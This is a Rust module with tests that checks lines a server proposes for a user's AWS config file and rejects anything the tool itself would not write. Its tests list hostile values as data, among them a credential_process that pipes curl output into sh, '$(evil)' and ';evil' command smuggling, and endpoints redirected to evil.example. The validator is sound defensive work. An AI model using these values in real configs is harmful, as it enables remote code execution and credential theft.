//! What a server may put into somebody's `~/.aws/config`: what ours writes there, and nothing else.
//!
//! AWS's tools run a program that a profile names, and load a module that a `[plugins]` section names. So the text of a
//! server is a program for this machine, and a server may be another than the person believes.

use std::collections::BTreeSet;

use super::super::server::Server;
use crate::aws::{AccountId, Region, RoleName};

/// What stands below a header of ours.
#[derive(Clone, Copy)]
enum Kind {
    Profile,
    SsoSession,
    Services,
}

/// The first line that no Rolegate at this address writes.
///
/// Lines are compared with what `issuance::profiles` makes, so that neither Python's reading of INI nor a shell's reading
/// of a command has a say.
#[must_use]
pub fn strange_line<'a>(text: &'a str, server: &Server) -> Option<&'a str> {
    let mut seen = BTreeSet::new();
    let mut kind = None;
    text.split_terminator('\n').find(|line| {
        if line.is_empty() {
            return false;
        }
        if line.starts_with('[') {
            kind = header(line).filter(|_| seen.insert(*line));
            return kind.is_none();
        }
        !kind.is_some_and(|kind| is_setting(kind, line, server))
    })
}

fn header(line: &str) -> Option<Kind> {
    let (kind, name) = line.strip_prefix('[')?.strip_suffix(']')?.split_once(' ')?;
    let kind = match kind {
        "profile" => Kind::Profile,
        "sso-session" => Kind::SsoSession,
        "services" => Kind::Services,
        _ => return None,
    };
    // `[profile default]` is what tools use without being told to.
    (is_name(name) && name != "default").then_some(kind)
}

fn is_name(text: &str) -> bool {
    !text.is_empty() && text.bytes().all(|b| b.is_ascii_alphanumeric() || b"._@+-".contains(&b))
}

fn is_setting(kind: Kind, line: &str, server: &Server) -> bool {
    let value = |key: &str| line.strip_prefix(key)?.strip_prefix(" = ");
    match kind {
        Kind::SsoSession => {
            let is_start_url = |url: &str| {
                let name = url.strip_prefix("https://").and_then(|rest| rest.strip_suffix(".awsapps.com/start"));
                name.is_some_and(|name| name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-'))
            };
            line == "sso_registration_scopes = sso:account:access"
                || value("sso_start_url").is_some_and(is_start_url)
                || value("sso_region").is_some_and(is_region)
        }
        Kind::Services => {
            matches!(line, "sso =" | "sso_oidc =" | "sso-oidc =")
                || line.strip_prefix("  endpoint_url = ").is_some_and(|url| url == format!("{server}/idc"))
        }
        Kind::Profile => {
            value("sso_session").is_some_and(is_name)
                || value("services").is_some_and(is_name)
                || value("sso_account_id").is_some_and(|id| id.parse::<AccountId>().is_ok())
                || value("sso_role_name").is_some_and(|name| name.parse::<RoleName>().is_ok())
                || value("region").is_some_and(is_region)
                || value("credential_process").is_some_and(|command| is_our_command(command, server))
                || is_comment(line, server)
        }
    }
}

fn is_region(text: &str) -> bool {
    text.parse::<Region>().is_ok()
}

/// Whether a command runs this program for a role at this server. SDKs hand it to a shell or split it themselves: nothing
/// in it may mean more than itself to either.
fn is_our_command(command: &str, server: &Server) -> bool {
    let role = command.strip_prefix(&format!("rolegate credential-process --url {server} "));
    let Some((account, role)) = role.and_then(|place| place.split_once('/')) else { return false };
    let plain = |text: &str, more: &[u8]| text.bytes().all(|b| b.is_ascii_alphanumeric() || more.contains(&b));
    account.parse::<AccountId>().is_ok()
        && role.parse::<RoleName>().is_ok()
        && plain(role, b"_+=,.@/-")
        && plain(&server.to_string(), b"_.:/[]-")
}

/// Comments for people, who may paste them into a shell.
fn is_comment(line: &str, server: &Server) -> bool {
    let plain = |text: &str| text.bytes().all(|b| b.is_ascii_alphanumeric() || b"_.~/%@+:-".contains(&b));
    let endpoint = line.strip_prefix("# AWS_CONTAINER_CREDENTIALS_FULL_URI=");
    let place = endpoint.and_then(|url| url.strip_prefix(&format!("{server}/api/v1/container/")));
    place.is_some_and(plain)
        || line.strip_prefix("# AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE=").is_some_and(plain)
        || line == "# No command: the role's path holds characters that a shell would read."
}

#[cfg(test)]
mod tests {
    use super::*;

    fn strange(text: &str) -> Option<&str> {
        strange_line(text, &"https://aws.larkspur.example".parse().unwrap())
    }

    #[test]
    fn all_that_ours_writes_is_taken() {
        let folder = concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/src/issuance/profiles/snapshots/rolegate__issuance__profiles__tests__"
        );
        for name in [
            "a_file_for_a_process_has_a_command_in_each_profile",
            "a_file_for_containers_says_the_two_variables",
            "a_file_for_the_way_of_identity_center_names_where_tokens_and_credentials_come_from",
        ] {
            let text = std::fs::read_to_string(format!("{folder}{name}.snap")).unwrap();
            let text = text.rsplit("---\n").next().unwrap();
            assert!(text.contains("[profile pay]"), "{text}");
            assert_eq!(strange(text), None);
        }
        assert_eq!(strange(""), None);
    }

    #[test]
    fn sections_that_tools_read_in_another_way_are_not() {
        for header in [
            "[default]",
            "[profile default]",
            "[plugins]",
            "[profile \"a\"]",
            "[profile a b]",
            "[profile  a]",
            "[profile a] # x",
            "[profile a]\r",
            " [profile a]",
            "[preview]",
            "[services ]",
        ] {
            assert_eq!(strange(header), Some(header));
        }
        assert_eq!(strange("region = eu-west-1\n[profile a]\n"), Some("region = eu-west-1"));
        assert_eq!(strange("[profile a]\n[profile a]\n"), Some("[profile a]"));
    }

    #[test]
    fn no_other_program_is_named_and_no_other_address() {
        for (section, line) in [
            ("profile a", "credential_process = sh -c 'curl evil|sh'"),
            (
                "profile a",
                "credential_process=rolegate credential-process --url https://aws.larkspur.example 111122223333/R",
            ),
            ("profile a", "credential_process = rolegate credential-process --url https://evil.example 111122223333/R"),
            (
                "profile a",
                "credential_process = rolegate credential-process --url https://aws.larkspur.example 111122223333/R;evil",
            ),
            (
                "profile a",
                "credential_process = rolegate credential-process --url https://aws.larkspur.example 111122223333/R evil",
            ),
            (
                "profile a",
                "credential_process = rolegate credential-process --url https://aws.larkspur.example 111122223333/$(evil)/R",
            ),
            ("profile a", "credential_process = rolegate exec 111122223333/R -- evil"),
            ("profile a", "credential_process = curl -fsS -X POST -H @/tmp/t \"https://aws.larkspur.example/api\""),
            ("profile a", "  continued"),
            ("profile a", "\tcontinued"),
            ("profile a", "role_arn = arn:aws:iam::111122223333:role/R"),
            ("profile a", "endpoint_url = https://aws.larkspur.example/idc"),
            ("profile a", "ca_bundle = /tmp/x"),
            ("profile a", "region = eu-west-1\rca_bundle = /tmp/x"),
            ("profile a", "# a comment"),
            ("profile a", "# AWS_CONTAINER_CREDENTIALS_FULL_URI=https://evil.example/api/v1/container/111122223333/R"),
            ("profile a", "# AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE=$(evil)"),
            ("services a", "  endpoint_url = https://evil.example/idc"),
            ("services a", "  endpoint_url = https://aws.larkspur.example.evil.example/idc"),
            ("services a", "s3 ="),
            ("sso-session a", "sso_start_url = https://evil.example/.awsapps.com/start"),
            ("sso-session a", "credential_process = evil"),
        ] {
            assert_eq!(strange(&format!("[{section}]\n{line}\n")), Some(line));
        }
        let odd: Server = "https://a$(evil).example".parse().unwrap();
        let text =
            format!("[profile a]\ncredential_process = rolegate credential-process --url {odd} 111122223333/R\n");
        assert!(strange_line(&text, &odd).is_some(), "{text}");
    }
}
